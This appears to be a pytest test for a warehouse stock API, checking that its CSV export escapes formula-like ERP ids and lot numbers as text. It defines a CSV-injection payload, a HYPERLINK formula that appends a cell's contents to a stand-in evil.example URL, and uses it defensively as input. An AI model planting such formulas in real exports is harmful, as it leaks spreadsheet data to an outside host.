"""The stock CSV: ERP ids and supplier lots that look like formulas come out as text, with one charset."""

from __future__ import annotations

import csv
import io

from sqlalchemy import select

from tests.conftest import login
from udipick.db.ledger import Movement, post_movements
from udipick.db.models import Item, Location, Lot, User
from udipick.domain.access import Actor

HYPERLINK = '=HYPERLINK("http://evil.example/x?"&A1,"Click")'


async def test_stock_csv_writes_formula_like_text_as_text_with_one_charset(client, demo_db):
    admin = await login(client, "admin")
    item = {
        "erpId": HYPERLINK,
        "version": 1,
        "gtin": "4006381333931",
        "name": "Catheter",
        "baseUnit": "EA",
        "lotTracked": True,
    }
    assert (await client.post("/api/v1/erp/items", json=item, headers=admin)).status_code == 201
    # the lot as a supplier's label printed it, received into a pick location
    async with demo_db.begin() as s:
        item_id = await s.scalar(select(Item.id).where(Item.erp_id == HYPERLINK))
        location_id = await s.scalar(select(Location.id).order_by(Location.id).limit(1))
        admin_id = await s.scalar(select(User.id).where(User.username == "admin"))
        lot_id = await s.scalar(Lot.__table__.insert().values(item_id=item_id, lot="=1+2").returning(Lot.id))
        await post_movements(
            s,
            Actor(user_id=admin_id, username="admin"),
            [
                Movement(
                    "receipt",
                    item_id=item_id,
                    quantity=7,
                    lot_id=lot_id,
                    to_location_id=location_id,
                    to_status="available",
                )
            ],
        )

    r = await client.get("/api/v1/erp/stock?format=csv", headers=admin)

    assert r.status_code == 200
    assert r.headers["content-type"] == "text/csv; charset=utf-8"
    rows = list(csv.reader(io.StringIO(r.text)))
    assert rows[0] == [
        "item",
        "gtin",
        "lot",
        "expiry",
        "serial",
        "warehouse",
        "location",
        "status",
        "quantity",
        "reserved",
    ]
    ours = [row for row in rows if row[1] == "04006381333931"]
    assert len(ours) == 1
    assert ours[0][0] == "'" + HYPERLINK
    assert ours[0][2] == "'=1+2"
    assert ours[0][8] == "7"
    assert '"\'=HYPERLINK(""http://evil.example/x?""&A1,""Click"")",04006381333931,\'=1+2,' in r.text
    # no cell anywhere in the export starts a formula
    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
